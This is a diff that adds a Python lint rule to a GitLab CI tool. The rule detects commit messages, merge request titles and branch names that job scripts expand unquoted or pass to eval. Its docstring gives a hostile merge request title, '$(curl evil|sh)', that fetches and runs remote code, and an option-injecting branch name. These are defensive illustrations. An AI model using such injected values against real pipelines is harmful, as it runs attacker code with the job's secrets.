@@ -1,0 +1,165 @@
+"""A script expands user-controlled text unquoted, or hands it to ``eval``.
+
+## What it does
+Looks at ``before_script``, ``script`` and ``after_script`` of every job (after ``extends``,
+``!reference`` and ``default:``) for predefined variables whose text anyone who can push a
+branch or open a merge request chooses: ``CI_COMMIT_MESSAGE``, ``CI_COMMIT_TITLE``,
+``CI_COMMIT_DESCRIPTION``, ``CI_COMMIT_TAG_MESSAGE``, ``CI_MERGE_REQUEST_TITLE``,
+``CI_MERGE_REQUEST_DESCRIPTION`` and the branch names (``CI_COMMIT_BRANCH``,
+``CI_COMMIT_REF_NAME``, ``CI_MERGE_REQUEST_SOURCE_BRANCH_NAME``,
+``CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME``). It reports one expanded outside double quotes
+(``echo $CI_COMMIT_TITLE``) and one anywhere in an ``eval``, ``sh -c`` or ``bash -c`` command.
+The shell quoting is read from the script line (single and double quotes, backslashes); the
+``_SLUG`` variants, which GitLab reduces to letters, digits and ``-``, are not reported. A
+script line shared through ``default:`` or ``!reference`` is reported once, where it is written.
+
+## Why is this bad?
+Unquoted, the text is split into words and glob-expanded: a branch named ``--upload-pack=...``
+or a title holding ``*`` becomes options and file names of the command. Through ``eval`` it
+runs as shell code: a merge request titled ``$(curl evil|sh)`` runs that in the job, with the
+job's secrets.
+
+## Example
+```yaml
+notify:
+  script:
+    - ./notify.sh $CI_MERGE_REQUEST_TITLE
+    - eval "echo $CI_COMMIT_MESSAGE"
+```
+
+## Use instead
+```yaml
+notify:
+  script:
+    - ./notify.sh "$CI_MERGE_REQUEST_TITLE"
+    - printf '%s' "$CI_COMMIT_MESSAGE"
+```
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from cigen.diagnostics import Diagnostic, Mark, Severity, at
+from cigen.lint.context import LintContext
+from cigen.yaml.load import YSeq
+
+CODE = "CIG510"
+NAME = "script-injection"
+SEVERITY = Severity.WARNING
+SUMMARY = "user-controlled text (commit message, MR title, branch) unquoted or in eval"
+
+#: Predefined variables whose value whoever pushes or opens a merge request writes.
+USER_CONTROLLED = frozenset(
+    {
+        "CI_COMMIT_MESSAGE",
+        "CI_COMMIT_TITLE",
+        "CI_COMMIT_DESCRIPTION",
+        "CI_COMMIT_TAG_MESSAGE",
+        "CI_MERGE_REQUEST_TITLE",
+        "CI_MERGE_REQUEST_DESCRIPTION",
+        "CI_COMMIT_BRANCH",
+        "CI_COMMIT_REF_NAME",
+        "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
+        "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
+    }
+)
+SCRIPT_KEYS = ("before_script", "script", "after_script")
+
+_VARIABLE = re.compile(
+    r"\$(?:\{(?P<braced>[A-Za-z_][A-Za-z0-9_]*)[^}]*\}|(?P<plain>[A-Za-z_][A-Za-z0-9_]*))"
+)
+_EVAL = re.compile(r"(?:^|[;&|(`]|\$\()[ \t]*(?:eval|(?:ba|da|z)?sh[ \t]+-c)\b", re.M)
+
+
+def expansions(line: str) -> Iterator[tuple[int, int, str, bool]]:
+    """``(offset, length, name, quoted)`` for each ``$NAME``/``${NAME}`` the shell expands.
+
+    Single quotes and backslash-escaped ``$`` stop expansion; inside ``$(...)`` the quoting
+    starts over (approximately: one level is tracked).
+    """
+    quote = ""  # "", "'" or '"'
+    saved: list[str] = []
+    index = 0
+    while index < len(line):
+        char = line[index]
+        if quote == "'":
+            if char == "'":
+                quote = ""
+        elif char == "\\":
+            index += 2
+            continue
+        elif char == "'" and quote == "":
+            quote = "'"
+        elif char == '"':
+            quote = "" if quote == '"' else '"'
+        elif line.startswith("$(", index):
+            saved.append(quote)
+            quote = ""
+            index += 2
+            continue
+        elif char == ")" and saved:
+            quote = saved.pop()
+        elif char == "$":
+            found = _VARIABLE.match(line, index)
+            if found:
+                name = found.group("braced") or found.group("plain")
+                yield index, found.end() - index, name, quote == '"'
+                index = found.end()
+                continue
+        index += 1
+
+
+def _in_eval(text: str, offset: int) -> bool:
+    """Whether ``offset`` follows an ``eval`` / ``sh -c`` command on its own line of ``text``."""
+    line_start = text.rfind("\n", 0, offset) + 1
+    found = _EVAL.search(text, line_start, offset)
+    return found is not None
+
+
+def check(ctx: LintContext) -> Iterator[Diagnostic]:
+    from cigen.yaml.scalars import SourceText, locate
+
+    sources: dict[str, SourceText] = {}
+    seen: set[tuple[Mark, str]] = set()  # a default: script shared by jobs is reported once
+    for job in ctx.pipeline.jobs.values():
+        for key in SCRIPT_KEYS:
+            lines = job.config.get(key)
+            if isinstance(lines, str):
+                continue  # GitLab wants a list here; the schema rule reports it
+            if not isinstance(lines, YSeq):
+                continue
+            for index, item in enumerate(lines):
+                if not isinstance(item, str):
+                    continue
+                mark = lines.item_mark(index)
+                for offset, length, name, quoted in expansions(item):
+                    if name not in USER_CONTROLLED:
+                        continue
+                    in_eval = _in_eval(item, offset)
+                    if quoted and not in_eval:
+                        continue
+                    loaded = ctx.pipeline.files.get(mark.path)
+                    where = mark
+                    if loaded is not None and loaded.text:
+                        source = sources.get(mark.path)
+                        if source is None:
+                            source = sources[mark.path] = SourceText(loaded.text)
+                        where = locate(source, mark, item, offset, length)
+                    if (where, name) in seen:
+                        continue
+                    seen.add((where, name))
+                    if in_eval:
+                        message = (
+                            f"{job.name} job: ${name} is run as shell code by eval/sh -c, and "
+                            "whoever writes it (a commit, a merge request, a branch) chooses "
+                            f"that code; pass it as data instead (printf '%s' \"${name}\")"
+                        )
+                    else:
+                        message = (
+                            f"{job.name} job: ${name} is expanded unquoted, so text that "
+                            "whoever pushes or opens a merge request chooses is split into "
+                            f'words and file names; quote it: "${name}"'
+                        )
+                    yield at(where, CODE, NAME, SEVERITY, message, job=job.name, anchor=name)
